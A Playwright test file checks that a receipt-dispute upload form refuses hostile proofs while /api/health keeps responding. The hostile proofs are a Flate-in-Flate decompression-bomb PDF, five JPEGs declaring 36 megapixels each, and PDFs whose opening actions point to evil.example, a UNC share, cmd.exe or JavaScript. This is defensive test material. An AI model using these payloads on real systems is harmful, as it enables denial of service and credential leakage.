import type { Page } from "@playwright/test";
import { zhCN } from "@/lib/i18n/zh-CN";
import { flateInFlatePdf, handPdf, jpegDeclaring, ONE_PAGE, pdfCatalog } from "@/lib/uploads/testing";
import { demo, qrPath } from "../fixtures";
import { expect, test } from "../test";
import { errorCode, fieldError, healthDuring, median, percentile, postForm, renderedForm, type Upload } from "./helpers";

/**
 * Issue 12, findings 1 and 8, against the production build: hostile proofs are refused with a clear
 * message, nothing is stored, and the instance keeps answering /api/health meanwhile (decoding runs
 * in a worker thread with memory and time caps; PDF streams are inflated asynchronously within a
 * budget before any parser sees them). Every attack file is made here, in memory.
 */

const catalogPdf = (catalogExtra: string) => handPdf([pdfCatalog(catalogExtra), ...ONE_PAGE]);

async function ticketForm(page: Page, receiptNo: string) {
  await page.goto(qrPath(receiptNo).replace("?", "/ticket?"));
  return renderedForm(page, page.locator("form").filter({ has: page.locator("input[name=idempotency_key]") }));
}

const fields = { category: "not_posted", description: "我已付款，见附件。", contact: "13800138000" };

// The spec's 200 ms for /api/health while hostile uploads are refused. Where the machine itself answers
// slower than that (a loaded 2-core CI machine, browsers and other workers on the same cores), the same
// probes during three ordinary refused submissions (a mistyped phone number, no file: the same form, the
// same error page rendered) set the bar instead: the attack may not make them more than three times as slow.
// Before the fix one such upload held the event loop: a probe sent meanwhile waited 6.5 s.
const HEALTH_MS = 200;
const HELD_LOOP_MS = 2_500;

test.describe("finding 1: decompression bombs and pixel floods", () => {
  test.describe.configure({ mode: "serial" });

  const attacks: [name: string, files: () => Upload[], code: keyof typeof zhCN.ticket.errors][] = [
    ["a 932-byte Flate-in-Flate PDF (256 MB inside)", () => [{ name: "receipt.pdf", type: "application/pdf", bytes: flateInFlatePdf(256 * 1024 * 1024) }], "too_complex"],
    ["five 36-megapixel JPEGs", () => Array.from({ length: 5 }, (_, i) => ({ name: `IMG_${i}.jpg`, type: "image/jpeg", bytes: jpegDeclaring(6000, 6000) })), "too_many_pixels"],
  ];
  for (const [name, files, code] of attacks) {
    test(`${name} is refused while /api/health keeps answering`, async ({ page, baseURL }) => {
      const form = await ticketForm(page, demo.unpaid.receiptNo);
      const uploads = files();
      console.log(`attack upload: ${uploads.reduce((n, f) => n + f.bytes.length, 0)} bytes in ${uploads.length} file(s)`);
      const three = (change: Record<string, string>, files: Upload[]) => () => Promise.all([0, 1, 2].map(() => postForm(page.request, form, change, files)));
      const control = await healthDuring(baseURL!, three({ ...fields, contact: "138" }, []));
      for (const response of control.result) expect(errorCode(await response.text())).toBe("invalid");
      const ordinary = median(control.latencies);
      // Several at once, as an attacker would send them.
      const { result: responses, latencies } = await healthDuring(baseURL!, three(fields, uploads));
      const figures = { probes: latencies.length, median: Math.round(median(latencies)), p90: Math.round(percentile(latencies, 90)), max: Math.round(Math.max(...latencies)) };
      console.log(`/api/health during "${name}": ${JSON.stringify(figures)} ms; during three ordinary refusals: median ${Math.round(ordinary)} ms`);
      for (const response of responses) {
        expect(response.status()).toBe(200);
        const html = await response.text();
        expect(errorCode(html)).toBe("invalid");
        expect(fieldError(html, "proof")).toBe(zhCN.ticket.errors[code]);
      }
      expect(latencies.length).toBeGreaterThan(0);
      expect(figures.median).toBeLessThan(Math.max(HEALTH_MS, 3 * ordinary));
      expect(figures.max).toBeLessThan(HELD_LOOP_MS);
    });
  }

  test("a refused upload stores nothing: the same form then opens one ticket, with its real proof only", async ({ page }) => {
    const form = await ticketForm(page, demo.not_found.receiptNo);
    const refused = await postForm(page.request, form, fields, [{ name: "x.pdf", type: "application/pdf", bytes: flateInFlatePdf(64 * 1024 * 1024) }]);
    expect(fieldError(await refused.text(), "proof")).toBe(zhCN.ticket.errors.too_complex);
    const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
    const accepted = await postForm(page.request, form, fields, [{ name: "ok.png", type: "image/png", bytes: png }]);
    // A new ticket, or (when another suite reported this receipt first) the open one it joins.
    if (accepted.status() === 303) {
      await page.goto(accepted.headers()["location"]!);
      await expect(page.locator("[data-ticket-status]")).toHaveAttribute("data-queue", "data_entry");
      await expect(page.locator("a[href*='/attachments/']")).toHaveCount(1);
    } else {
      expect(await accepted.text()).toContain('data-outcome="existing"');
    }
  });
});

test.describe("finding 8: PDFs that act when opened", () => {
  const cases: [string, string][] = [
    ["/OpenAction /URI", "/OpenAction << /S /URI /URI (https://evil.example/opened) >> "],
    ["/OpenAction /GoToR to a UNC path", "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\r.pdf) /D [0 /Fit] >> "],
    ["/OpenAction /Launch", "/OpenAction << /S /Launch /F (cmd.exe) >> "],
    ["/AA with /JavaScript", "/AA << /WC << /S /JavaScript /JS (app.alert(1)) >> >> "],
  ];
  for (const [name, extra] of cases) {
    test(`${name} is refused with a clear message`, async ({ page }) => {
      const form = await ticketForm(page, demo.unpaid.receiptNo);
      const response = await postForm(page.request, form, fields, [{ name: "receipt.pdf", type: "application/pdf", bytes: catalogPdf(extra) }]);
      expect(response.status()).toBe(200);
      expect(fieldError(await response.text(), "proof")).toBe(zhCN.ticket.errors.unsupported_type);
    });
  }

  test("an internal /GoTo is an ordinary PDF and is accepted", async ({ page }) => {
    const form = await ticketForm(page, demo.not_found.receiptNo);
    const response = await postForm(page.request, form, { ...fields, category: "not_posted", description: "PDF 凭证" }, [
      { name: "receipt.pdf", type: "application/pdf", bytes: catalogPdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ") },
    ]);
    // A new ticket (303), or the open one of this receipt and category that it joins.
    if (response.status() !== 303) {
      const html = await response.text();
      expect(errorCode(html)).toBeNull();
      expect(html).toContain('data-outcome="existing"');
    }
  });
});
